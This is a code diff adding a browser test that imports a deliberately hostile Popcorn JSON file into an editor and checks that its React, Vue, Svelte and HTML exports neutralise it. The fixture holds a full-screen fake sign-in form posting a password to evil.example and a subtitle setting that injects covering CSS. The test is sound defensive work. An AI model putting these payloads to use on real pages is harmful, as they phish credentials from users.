@@ -10,7 +10,16 @@ import vue from "@vitejs/plugin-vue";
 import { type Browser, chromium } from "playwright";
 import { type PluginOption, build } from "vite";
 import { afterAll, beforeAll, expect, test } from "vitest";
-import { exportHtml, exportReact, exportSvelte, exportVue } from "@popcorn-kit/editor";
+import {
+  CATALOGUE,
+  createPluginSet,
+  createProject,
+  exportHtml,
+  exportReact,
+  exportSvelte,
+  exportVue,
+  importFile,
+} from "@popcorn-kit/editor";
 import { HOSTILE, SAMPLE_TIMES, SCENE } from "../../editor/tests/fixtures/scene.js";
 import { chromiumArgs, chromiumPath } from "../chromium.js";
 import { type Served, serveFolder } from "../fresh/serveFolder.js";
@@ -50,6 +59,35 @@ const VIMEO = {
   media: { ...SCENE.media, source: { kind: "vimeo", url: "https://vimeo.com/76979871" } },
 } as const;
 
+/**
+ * A Popcorn JSON file no one here would write, imported as a person imports one: a text event whose html lays a
+ * full-window "session expired" form over the page and fetches from another origin, and a subtitle whose settings
+ * try to add style of their own. Its events are a file's: each export must show them with the strict profile of
+ * files' html, inside their outlet and captions box, requesting nothing from elsewhere.
+ */
+const PHISHING =
+  '<div style="position:fixed;inset:0;z-index:2147483647;background:white">Session expired, sign in again' +
+  '<form action="https://evil.example/steal"><input type="password" name="p"><button>Sign in</button></form>' +
+  '<img src="https://evil.example/t.png" alt=""></div>';
+const COVER = "0%; position:fixed; inset:0; z-index:2147483647; background:url(https://evil.example/c.png) white; x:";
+const IMPORTED = importFile(
+  JSON.stringify({
+    data: [
+      { text: { start: 0, end: 9, html: PHISHING, target: "notes" } },
+      { subtitle: { start: 0, end: 9, text: "A line from the file", settings: { snapToLines: false, line: COVER } } },
+    ],
+  }),
+  {
+    plugins: createPluginSet(CATALOGUE),
+    fileName: "hostile.json",
+    into: createProject({
+      id: "p-imported",
+      media: { source: { kind: "url", url: "clip.webm" }, duration: 10 },
+      layout: { outlets: [{ name: "notes", placement: "beside", box: { left: 0, top: 0, width: 100, height: 60 } }] },
+    }),
+  },
+).project;
+
 const tsconfig = (extra: Record<string, unknown>, include: string[]) =>
   JSON.stringify({
     compilerOptions: {
@@ -75,11 +113,15 @@ const APPS = {
       "src/Scene.tsx": () => exportReact(SCENE).code,
       "src/YouTube.tsx": () => exportReact(YOUTUBE).code,
       "src/Vimeo.tsx": () => exportReact(VIMEO).code,
+      "src/Imported.tsx": () => exportReact(IMPORTED).code,
       "src/main.tsx": () =>
         'import { createRoot } from "react-dom/client";\nimport { Scene } from "./Scene.js";\n\ncreateRoot(document.getElementById("app")!).render(<Scene />);\n',
+      "src/importedMain.tsx": () =>
+        'import { createRoot } from "react-dom/client";\nimport { Scene } from "./Imported.js";\n\ncreateRoot(document.getElementById("app")!).render(<Scene />);\n',
       "tsconfig.json": () => tsconfig({ jsx: "react-jsx", exactOptionalPropertyTypes: true }, ["src"]),
     },
     entry: "/src/main.tsx",
+    importedEntry: "/src/importedMain.tsx",
     check: ["tsc", ["-p", "tsconfig.json"]],
     plugin: () => react(),
   },
@@ -88,12 +130,16 @@ const APPS = {
       "src/Scene.vue": () => exportVue(SCENE).code,
       "src/YouTube.vue": () => exportVue(YOUTUBE).code,
       "src/Vimeo.vue": () => exportVue(VIMEO).code,
+      "src/Imported.vue": () => exportVue(IMPORTED).code,
       "src/main.ts": () =>
         'import { createApp } from "vue";\nimport Scene from "./Scene.vue";\n\ncreateApp(Scene).mount("#app");\n',
+      "src/importedMain.ts": () =>
+        'import { createApp } from "vue";\nimport Scene from "./Imported.vue";\n\ncreateApp(Scene).mount("#app");\n',
       "tsconfig.json": () =>
         tsconfig({}, ["src/**/*.ts", "src/**/*.vue"]).replace(/}$/, ',"vueCompilerOptions":{"strictTemplates":true}}'),
     },
     entry: "/src/main.ts",
+    importedEntry: "/src/importedMain.ts",
     check: ["vue-tsc", ["-p", "tsconfig.json"]],
     plugin: () => vue(),
   },
@@ -102,17 +148,27 @@ const APPS = {
       "src/Scene.svelte": () => exportSvelte(SCENE).code,
       "src/YouTube.svelte": () => exportSvelte(YOUTUBE).code,
       "src/Vimeo.svelte": () => exportSvelte(VIMEO).code,
+      "src/Imported.svelte": () => exportSvelte(IMPORTED).code,
       "src/main.ts": () =>
         'import { mount } from "svelte";\nimport Scene from "./Scene.svelte";\n\nmount(Scene, { target: document.getElementById("app")! });\n',
+      "src/importedMain.ts": () =>
+        'import { mount } from "svelte";\nimport Scene from "./Imported.svelte";\n\nmount(Scene, { target: document.getElementById("app")! });\n',
       "tsconfig.json": () => tsconfig({ verbatimModuleSyntax: true }, ["src/**/*.ts", "src/**/*.svelte"]),
     },
     entry: "/src/main.ts",
+    importedEntry: "/src/importedMain.ts",
     check: ["svelte-check", ["--tsconfig", "./tsconfig.json", "--fail-on-warnings"]],
     plugin: () => svelte(),
   },
 } satisfies Record<
   Exclude<Kind, "html">,
-  { files: Record<string, () => string>; entry: string; check: [string, string[]]; plugin: () => PluginOption }
+  {
+    files: Record<string, () => string>;
+    entry: string;
+    importedEntry: string;
+    check: [string, string[]];
+    plugin: () => PluginOption;
+  }
 >;
 
 /** Runs a command of the workspace (`node_modules/.bin`) in `cwd`; a failure carries its output. */
@@ -147,6 +203,10 @@ beforeAll(async () => {
     join(html, "index.html"),
     exportHtml(SCENE, { runtime: { script: runtime }, stylesheet: { css } }).code,
   );
+  writeFileSync(
+    join(html, "imported.html"),
+    exportHtml(IMPORTED, { runtime: { script: runtime }, stylesheet: { css } }).code,
+  );
   for (const file of ["clip.webm", "poster.jpg"]) cpSync(join(media, file), join(html, file));
   served.set("html", await serveFolder(html));
   for (const [kind, app] of Object.entries(APPS)) {
@@ -154,10 +214,15 @@ beforeAll(async () => {
     mkdirSync(join(folder, "src"), { recursive: true });
     mkdirSync(join(folder, "public"));
     for (const file of ["clip.webm", "poster.jpg"]) cpSync(join(media, file), join(folder, "public", file));
-    writeFileSync(
-      join(folder, "index.html"),
-      `<!doctype html>\n<html lang="en">\n<head><meta charset="utf-8"><title>${kind}</title></head>\n<body><div id="app"></div><script type="module" src="${app.entry}"></script></body>\n</html>\n`,
-    );
+    for (const [page, entry] of [
+      ["index.html", app.entry],
+      ["imported.html", app.importedEntry],
+    ]) {
+      writeFileSync(
+        join(folder, page!),
+        `<!doctype html>\n<html lang="en">\n<head><meta charset="utf-8"><title>${kind}</title></head>\n<body><div id="app"></div><script type="module" src="${entry}"></script></body>\n</html>\n`,
+      );
+    }
     for (const [file, write] of Object.entries(app.files)) writeFileSync(join(folder, file), write());
     // The type checks run in their own processes while Vite builds here.
     checks.push(timed(`${app.check[0]}`, () => bin(folder, app.check[0], app.check[1])));
@@ -165,7 +230,16 @@ beforeAll(async () => {
   for (const [kind, app] of Object.entries(APPS)) {
     const folder = join(root, kind);
     await timed(`vite build ${kind}`, () =>
-      build({ root: folder, configFile: false, logLevel: "error", plugins: [app.plugin()], build: { outDir: "dist" } }),
+      build({
+        root: folder,
+        configFile: false,
+        logLevel: "error",
+        plugins: [app.plugin()],
+        build: {
+          outDir: "dist",
+          rollupOptions: { input: { index: join(folder, "index.html"), imported: join(folder, "imported.html") } },
+        },
+      }),
     );
     served.set(kind as Kind, await serveFolder(join(folder, "dist")));
   }
@@ -262,4 +336,70 @@ test("the four exports show the same content at the same ten times", async () =>
   for (const kind of ["react", "vue", "svelte"] as const) {
     for (const [i, time] of SAMPLE_TIMES.entries()) expect(visits[kind][i], `${kind} at ${time} s`).toEqual(html[i]);
   }
+});
+
+test("a hostile file imported and exported four ways: its html stays in its outlet, its subtitle in the captions, nothing requested from elsewhere", async () => {
+  expect(IMPORTED.lanes.flatMap((lane) => lane.events.map((event) => event.origin))).toEqual(["file", "file"]);
+  const problems: string[] = [];
+  for (const kind of KINDS) {
+    const page = await browser.newPage({ viewport: { width: 1280, height: 900 } });
+    const elsewhere: string[] = [];
+    const own = new URL(served.get(kind)!.url).origin;
+    page.on("request", (request) => {
+      if (new URL(request.url()).origin !== own) elsewhere.push(request.url());
+    });
+    page.on("pageerror", (error) => problems.push(`${kind}: ${error.message}`));
+    await page.goto(`${served.get(kind)!.url.replace(/\/$/, "")}/imported.html`);
+    await page.waitForFunction(() => (document.querySelector("video")?.readyState ?? 0) >= 1);
+    await page.evaluate(async () => {
+      const video = document.querySelector("video")!;
+      const sought = new Promise((done) => video.addEventListener("seeked", done, { once: true }));
+      video.currentTime = 2;
+      await sought;
+    });
+    // The file's text and line show where they belong.
+    await page
+      .waitForFunction(
+        () =>
+          document.querySelector(".pk-scene-outlet-notes")?.textContent?.includes("Session expired") &&
+          document.querySelector(".pk-scene-captions")?.textContent?.includes("A line from the file"),
+        undefined,
+        { timeout: 30_000 },
+      )
+      .catch(async (error: Error) => {
+        const shown = await page.evaluate(() => document.body.innerHTML.slice(0, 3000));
+        throw new Error(`${kind}: the file's text and line did not show (${error.message}); the page holds ${shown}`);
+      });
+    const found = await page.evaluate(() => {
+      const viewport = { width: window.innerWidth, height: window.innerHeight };
+      const notes = document.querySelector(".pk-scene-outlet-notes")!.getBoundingClientRect();
+      const inNotes = [...document.querySelectorAll(".pk-scene-outlet-notes *")].map((element) => {
+        const box = element.getBoundingClientRect();
+        return (
+          box.width === 0 || (box.left >= notes.left - 1 && box.right <= notes.right + 1 && box.top >= notes.top - 1)
+        );
+      });
+      const fixed = [...document.querySelectorAll("body *")].filter(
+        (element) => getComputedStyle(element).position === "fixed",
+      ).length;
+      const line = document.querySelector<HTMLElement>(".pk-scene-captions .pk-caption");
+      return {
+        viewport,
+        fields: document.querySelectorAll("form, input, button, textarea").length,
+        fixed,
+        outside: inNotes.filter((inside) => !inside).length,
+        lineStyle: line?.getAttribute("style") ?? "",
+        lineCovers: line ? line.getBoundingClientRect().height >= viewport.height / 2 : false,
+      };
+    });
+    expect(found.fields, kind).toBe(0);
+    expect(found.fixed, kind).toBe(0);
+    expect(found.outside, kind).toBe(0);
+    expect(found.lineStyle, kind).not.toMatch(/position|inset|z-index|url\(/);
+    expect(found.lineCovers, kind).toBe(false);
+    await page.waitForLoadState("networkidle");
+    expect(elsewhere, kind).toEqual([]);
+    await page.close();
+  }
+  expect(problems).toEqual([]);
 });
